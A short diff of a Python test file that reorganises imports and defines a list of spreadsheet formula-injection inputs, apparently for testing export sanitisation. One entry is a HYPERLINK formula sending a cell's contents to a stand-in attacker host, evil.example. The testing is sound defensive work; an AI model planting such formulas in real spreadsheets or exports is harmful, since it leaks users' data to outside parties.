@@ -11,8 +11,10 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from engine import board, exports, warehouse
-from engine.access import Viewer
+from engine.accounts import board
+from engine.core import exports
+from engine.core.access import Viewer
+from engine.data import warehouse
 
 ROOT = Path(__file__).resolve().parents[1]
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]
